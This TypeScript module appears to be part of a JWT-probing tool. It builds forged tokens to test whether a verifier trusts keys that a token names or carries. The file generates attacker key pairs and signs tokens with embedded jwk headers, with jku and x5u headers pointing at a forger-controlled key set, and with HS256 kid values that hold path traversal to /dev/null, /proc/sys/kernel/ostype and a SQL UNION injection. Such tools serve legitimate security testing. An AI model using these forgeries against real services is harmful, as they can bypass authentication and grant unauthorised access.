/** Keys that the token itself brings or names: `jwk`, `jku`, `x5u` (RFC 7515 section 4.1), and a `kid` that is a path or SQL. */
import { generateKeyPairSync, type JsonWebKey, type KeyObject } from 'node:crypto'
import { signHmac, signWithKey } from '../forge.js'
import type { ShownJwt } from '../shown-token.js'
import type { Group, Trick } from '../trick.js'

const ownKid = 'latchkey-probe'

export interface ForeignKey {
  readonly alg: string
  readonly privateKey: KeyObject
  readonly publicJwk: JsonWebKey
}

/** A new key pair of the kind that the good token is signed with; one of ES256 beside a shared secret. */
export function createForeignKey(jwt: ShownJwt): ForeignKey {
  const { alg } = jwt.headerMembers
  const [name, { privateKey, publicKey }] = /^[RP]S/.test(String(alg))
    ? (['RS256', generateKeyPairSync('rsa', { modulusLength: 2048 })] as const)
    : alg === 'EdDSA'
      ? (['EdDSA', generateKeyPairSync('ed25519')] as const)
      : (['ES256', generateKeyPairSync('ec', { namedCurve: 'P-256' })] as const)
  return { alg: name, privateKey, publicJwk: { ...publicKey.export({ format: 'jwk' }), alg: name, use: 'sig' } }
}

/** What a key set of the forger holds: its key by a name of its own, and by that of the issuer's. */
export function foreignKeySet({ publicJwk }: ForeignKey, { headerMembers }: ShownJwt): object {
  return { keys: [ownKid, headerMembers.kid ?? ownKid].map((kid) => ({ ...publicJwk, kid })) }
}

/** `setUrl` is where the forger's key set lies. */
export function foreignKeys(jwt: ShownJwt | undefined, key: ForeignKey | undefined, setUrl: string): Group {
  const name = 'foreign key'
  if (jwt === undefined || key === undefined) return { name, skipped: 'the good token is no signed JWT' }
  const { alg, privateKey, publicJwk } = key
  const signed = (what: string, header: object) => signWithKey(what, jwt, alg, privateKey, { header: { ...header } })
  const tricks: Trick[] = [
    signed('another key under the same kid', {}),
    signed('a jwk in the header', { kid: ownKid, jwk: { ...publicJwk, kid: ownKid } }),
    signed('a jwk in the header, kid kept', { jwk: publicJwk }),
    signed('jku', { kid: ownKid, jku: setUrl }),
    signed('jku, kid kept', { jku: setUrl }),
    signed('x5u', { kid: ownKid, x5u: `${setUrl}?x5u` }),
    ...namedFiles(jwt),
  ]
  return { name, tricks }
}

/** Files whose bytes are known, and a query that answers what the forger wrote. */
function namedFiles(jwt: ShownJwt): Trick[] {
  const files: readonly (readonly [kid: string, secret: string])[] = [
    ['/dev/null', ''],
    ['../../../../../../../../dev/null', ''],
    ['/proc/sys/kernel/ostype', 'Linux\n'],
    ["latchkey-probe' UNION SELECT 'latchkey-probe'-- ", 'latchkey-probe'],
    ['latchkey-probe', ''],
  ]
  return files.map(([kid, secret]) =>
    signHmac(`kid ${JSON.stringify(kid)}, HS256`, jwt, 'HS256', secret, { header: { kid } }),
  )
}
